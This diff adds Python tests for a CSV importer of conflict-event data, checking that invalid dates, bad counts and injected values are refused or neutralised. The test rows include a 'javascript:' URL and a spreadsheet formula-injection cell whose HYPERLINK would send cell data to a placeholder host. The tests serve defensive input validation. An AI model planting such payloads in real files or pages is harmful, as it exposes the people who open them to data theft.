@@ -179,3 +179,45 @@ def test_a_gtd_date_that_does_not_exist_is_quoted(tmp_path):
     assert [str(p) for p in result.problems] == [
         'row 2, column iyear: "2011-2-30 (iyear-imonth-iday)" is not a usable date; row left out'
     ]
+
+
+def test_import_never_writes_what_validate_refuses(tmp_path):
+    """Rows validate would refuse are reported by row and left out; the rest is valid."""
+    base = dict(ACLED_ROWS[0])
+    rows = [
+        base,
+        {**base, "event_id_cnty": "FUT1", "event_date": "2999-01-01"},
+        {**base, "event_id_cnty": "ZERO1", "event_date": "0000-01-01"},
+        {**base, "event_id_cnty": "NEG1", "fatalities": "-5"},
+        {**base, "event_id_cnty": "HUGE1", "fatalities": "9" * 30},
+        {**base, "event_id_cnty": "JS1", "source": "javascript:alert(1)"},
+        {**base, "event_id_cnty": "FORMULA1", "notes": '=HYPERLINK("http://x/?"&A1)',
+         "location": "@SUM(A1)"},
+    ]
+    source = write(tmp_path / "acled.csv", ACLED_COLUMNS, rows)
+    out = tmp_path / "out.csv"
+    result = subprocess.run([str(BIN), "import", str(source), "-o", str(out)],
+                            capture_output=True, text=True, timeout=120)
+    assert result.returncode == 0, result.stderr
+    assert "Traceback" not in result.stderr
+    assert validate_file(out) == []
+    ids = set(read_dataset(out)["id"])
+    assert ids == {"acled-ukr12345", "acled-neg1", "acled-formula1"}
+    for row in (3, 4, 6, 7):  # the refused rows, each named with its row number
+        assert f"row {row}, " in result.stderr, result.stderr
+    # a count that is not one is reported and left empty, never silently changed
+    assert 'row 5, column fatalities: "-5" is not a count of zero or more' in result.stderr
+    assert read_dataset(out).set_index("id").at["acled-neg1", "fatalities"] == ""
+    # formula cells are neutralised in the file and read back as written
+    assert "'=HYPERLINK" in out.read_text(encoding="utf-8")
+    written = read_dataset(out).set_index("id").loc["acled-formula1"]
+    assert written["summary"] == '=HYPERLINK("http://x/?"&A1)'
+
+
+def test_import_that_converts_nothing_exits_1_and_writes_nothing(tmp_path):
+    source = write(tmp_path / "acled.csv", ACLED_COLUMNS, ACLED_ROWS[3:])
+    out = tmp_path / "out.csv"
+    result = subprocess.run([str(BIN), "import", str(source), "-o", str(out)],
+                            capture_output=True, text=True, timeout=120)
+    assert result.returncode == 1
+    assert "nothing converted" in result.stderr and not out.exists()
